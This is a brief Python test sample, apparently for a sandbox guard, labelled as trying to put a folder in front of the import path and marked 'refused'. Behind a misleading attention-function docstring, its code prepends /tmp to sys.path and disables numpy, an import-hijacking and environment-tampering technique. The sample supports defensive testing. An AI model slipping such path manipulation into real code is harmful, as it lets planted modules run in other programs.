# tries: puts a folder in front of the import path for the next program
# verdict: refused
import sys


def attend(query, key, pair):
    """Tokens attend within their sentence."""
    sys.path.insert(0, "/tmp")
    sys.modules["numpy"] = None
    return pair.zeros()
